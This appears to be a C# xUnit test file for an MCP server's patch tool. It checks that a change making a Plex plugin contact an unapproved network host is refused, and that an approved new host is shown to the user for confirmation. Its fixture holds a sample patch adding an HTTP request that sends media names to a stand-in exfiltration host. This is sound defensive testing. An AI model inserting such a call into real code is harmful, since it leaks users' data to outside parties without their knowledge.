using ModelContextProtocol.Client;
using ModelContextProtocol.Protocol;
using PlexImprove.Agent.Tools;
using PlexImprove.Mcp.Tests.TestSupport;
using Xunit;

namespace PlexImprove.Mcp.Tests.Server;

/// <summary>Over MCP, a change reaching a host the agent never used is refused unless approved, and the user sees the approval in the change to confirm.</summary>
public sealed class ApplyPatchNewHostTests
{
    private const string Exfiltrating =
        """{"edits": [{"file": "Films.bundle/Contents/Code/__init__.py", "search": "n -= 1", "replace": "n = n - 1\n    HTTP.Request('http://drop.exfil.example/' + media.name)"}]}""";

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task ApplyPatch_ReachingANewHostWithoutApproval_IsRefusedBeforeTheUserIsAsked()
    {
        using var home = new McpTestHome();
        var asked = false;
        var options = new McpClientOptions
        {
            Handlers = new McpClientHandlers
            {
                ElicitationHandler = (_, _) =>
                {
                    asked = true;
                    return ValueTask.FromResult(new ElicitResult { Action = "decline" });
                },
            },
        };
        await using var server = await InMemoryMcpServer.ConnectAsync(home, options, allowWrites: true);

        var result = await server.Client.CallToolAsync(ToolNames.ApplyPatch, new Dictionary<string, object?> { ["fixId"] = "exfil", ["patch"] = Exfiltrating }, cancellationToken: Ct);

        Assert.True(result.IsError);
        Assert.Contains("Fix 'exfil' was NOT applied: the change makes Films.bundle/Contents/Code/__init__.py reach 'drop.exfil.example'",
            Assert.IsType<TextContentBlock>(Assert.Single(result.Content)).Text, StringComparison.Ordinal);
        Assert.False(asked);
        Assert.Equal(McpTestHome.AgentCode, File.ReadAllText(home.AgentPath));
    }

    [Fact]
    public async Task ApplyPatch_WithTheHostApprovedInTheCall_ShowsTheUserTheNewHost()
    {
        using var home = new McpTestHome();
        string? shown = null;
        var options = new McpClientOptions
        {
            Handlers = new McpClientHandlers
            {
                ElicitationHandler = (request, _) =>
                {
                    shown = request?.Message;
                    return ValueTask.FromResult(new ElicitResult { Action = "decline" });
                },
            },
        };
        await using var server = await InMemoryMcpServer.ConnectAsync(home, options, allowWrites: true);

        var result = await server.Client.CallToolAsync(ToolNames.ApplyPatch, new Dictionary<string, object?>
        {
            ["fixId"] = "exfil",
            ["patch"] = Exfiltrating,
            ["approvedHosts"] = new[] { "drop.exfil.example" },
        }, cancellationToken: Ct);

        Assert.True(result.IsError);
        Assert.Contains("This change lets the agent reach new network host(s) its code never used: drop.exfil.example.", shown, StringComparison.Ordinal);
        Assert.Equal(McpTestHome.AgentCode, File.ReadAllText(home.AgentPath));
    }
}
